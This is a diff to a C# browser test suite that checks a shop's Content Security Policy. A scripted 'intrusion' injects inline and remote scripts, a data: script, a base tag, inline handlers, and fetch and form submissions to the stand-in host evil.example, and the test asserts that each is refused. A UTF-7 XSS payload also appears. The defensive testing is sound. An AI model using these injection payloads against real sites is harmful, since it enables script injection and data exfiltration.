@@ -25,6 +25,44 @@ public sealed class SafetyTests(Chromium chromium, ShopFixture shops)
         "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
     ];
 
+    /// <summary>What a script in the page would try that had got into it nevertheless: <c>broken</c> are the rules of the policy that it ran into.</summary>
+    private const string Intrusion =
+        """
+        () => {
+          window.broken = new Set();
+          addEventListener("securitypolicyviolation", e => broken.add(e.effectiveDirective + " " + (e.blockedURI.startsWith("https://evil.example") ? "another site" : e.blockedURI)), true);
+          const add = (tag, more) => document.body.append(Object.assign(document.createElement(tag), more));
+          add("script", { textContent: "window.hacked = 1" });
+          add("script", { src: "https://evil.example/a.js" });
+          add("script", { src: "data:text/javascript,window.hacked=1" });
+          add("link", { rel: "stylesheet", href: "https://evil.example/a.css" });
+          add("style", { textContent: "main { display: none }" });
+          add("img", { src: "https://evil.example/a.png" });
+          add("iframe", { src: "https://evil.example/" });
+          add("object", { data: "https://evil.example/a.swf" });
+          const base = document.createElement("base");
+          base.href = "https://evil.example/";
+          document.head.prepend(base);
+          const button = document.createElement("button");
+          button.setAttribute("onclick", "window.hacked = 1");
+          button.setAttribute("style", "color: red");
+          button.click();
+          setTimeout("window.hacked = 1");
+          fetch("https://evil.example/").catch(() => {});
+          const form = document.createElement("form");
+          form.action = "https://evil.example/";
+          document.body.append(form);
+          form.submit();
+        }
+        """;
+
+    private static readonly string[] Refusals =
+    [
+        "base-uri another site", "connect-src another site", "form-action another site", "frame-src another site", "img-src another site", "object-src another site",
+        "script-src eval", "script-src-attr inline", "script-src-elem another site", "script-src-elem data", "script-src-elem inline",
+        "style-src-attr inline", "style-src-elem another site", "style-src-elem inline",
+    ];
+
     private readonly ShopProcess _shop = shops.Shop;
 
     [Fact]
@@ -92,6 +130,22 @@ public sealed class SafetyTests(Chromium chromium, ShopFixture shops)
         await tab.Page.WaitForFunctionAsync("told.length > 0");
         (await tab.Page.EvaluateAsync<JsonElement>("told[0]")).Id.ShouldBe(invoice.Id);
         tab.ShouldBeClean();
+    }
+
+    [Theory]
+    [InlineData("pay")]
+    [InlineData("invoicing")]
+    [InlineData("")]
+    public async Task The_browser_refuses_whatever_is_not_the_pages_own(string page)
+    {
+        var path = page == "pay" ? $"pay/{(await _shop.Client.OrderAsync(InvoiceOrder.Crypto())).Id}" : page;
+        await using var tab = await chromium.OpenAsync(_shop.BaseAddress);
+        await tab.GoAsync(path);
+        await tab.Page.EvaluateAsync(Intrusion);
+        await tab.Page.EvaluateAsync(StreamScripts.Until($"broken.size >= {Refusals.Length}"));
+        (await tab.Page.EvaluateAsync<string[]>("[...broken]")).ShouldBe(Refusals, ignoreOrder: true);
+        (await tab.Page.EvaluateAsync<bool>("'hacked' in window || document.baseURI.includes('evil')")).ShouldBeFalse();
+        new Uri(tab.Page.Url).Authority.ShouldBe(_shop.BaseAddress.Authority);
     }
 
     private async Task LookAsync(Tab tab, string path, string evil)
